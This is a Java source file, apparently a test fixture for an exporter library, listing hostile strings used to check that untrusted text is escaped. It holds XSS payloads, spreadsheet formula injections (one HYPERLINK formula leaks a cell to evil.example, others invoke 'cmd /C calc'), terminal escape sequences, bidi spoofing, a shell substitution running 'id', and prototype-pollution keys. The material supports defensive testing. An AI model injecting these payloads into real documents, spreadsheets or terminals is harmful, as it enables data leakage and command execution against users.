package dev.plumbline.exporters;

import java.util.List;

/** Text that clouds let strangers choose, at its worst. */
final class HostileText {

  static final List<String> ALL =
      List.of(
          "</script><script>document.documentElement.dataset.planted='script'</script>",
          "<img src=x onerror=\"document.documentElement.dataset.planted='img'\">",
          "\"><svg/onload=alert(1)>",
          "--><style>*{display:none}</style><!--",
          "</main></body></html>",
          "javascript:document.documentElement.dataset.planted='link'",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1,1)",
          "\t=1+1",
          "\uff1d1+1",
          "x\";=cmd|' /C calc'!A0;\"",
          "\u001b]8;;http://evil.example\u001b\\click\u001b[2J",
          "\u009b31mred",
          "gnp.\u202egnitroper\u202c",
          "a\u2028b\u2029c\u0085d",
          "two\r\nlines, \"quoted\"",
          "null\u0000byte",
          "$(touch /tmp/planted) `id` 'quote'",
          "プロダクション 🚀",
          "__proto__",
          "constructor",
          "n".repeat(300));

  private HostileText() {}

  static String at(int index) {
    return ALL.get(Math.floorMod(index, ALL.size()));
  }
}
